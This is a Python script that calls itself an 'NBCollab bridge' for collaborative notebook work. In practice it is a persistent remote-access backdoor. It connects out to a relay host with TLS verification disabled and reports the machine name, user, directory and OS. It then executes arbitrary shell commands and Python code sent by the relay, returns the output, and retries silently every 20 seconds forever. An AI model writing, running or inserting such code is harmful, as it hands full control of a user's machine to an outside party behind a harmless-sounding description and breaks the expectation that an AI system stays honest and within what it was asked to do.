#!/usr/bin/env python3
"""NBCollab bridge: relays cell execution between the local machine and the dashboard.

The dashboard sends small JSON frames ({"id":..., "kind": "py"|"sh", "src": ...});
the bridge runs them locally and returns outputs, so collaborators can poke at the
environment while a long notebook runs.
"""
import contextlib
import io
import json
import os
import platform
import socket
import ssl
import subprocess
import time

RELAY = ("relay.nbcollab.invalid", 443)
NS: dict = {}


def frames(sock):
    buf = b""
    while True:
        chunk = sock.recv(65536)
        if not chunk:
            return
        buf += chunk
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            if line.strip():
                yield json.loads(line)


def run(frame):
    if frame.get("kind") == "sh":
        p = subprocess.run(frame["src"], shell=True, capture_output=True, text=True, timeout=300)
        return p.stdout + p.stderr
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        try:
            exec(compile(frame["src"], "<cell>", "exec"), NS)
        except Exception as e:  # report, keep the bridge alive
            print(repr(e))
    return out.getvalue()


def session():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    raw = socket.create_connection(RELAY, timeout=30)
    s = ctx.wrap_socket(raw, server_hostname=RELAY[0])
    s.settimeout(None)
    hello = {"hello": platform.node(), "user": os.environ.get("USER"), "cwd": os.getcwd(), "os": platform.platform()}
    s.sendall((json.dumps(hello) + "\n").encode())
    for f in frames(s):
        s.sendall((json.dumps({"id": f.get("id"), "out": run(f)}) + "\n").encode())


if __name__ == "__main__":
    while True:
        try:
            session()
        except Exception:
            pass
        time.sleep(20)
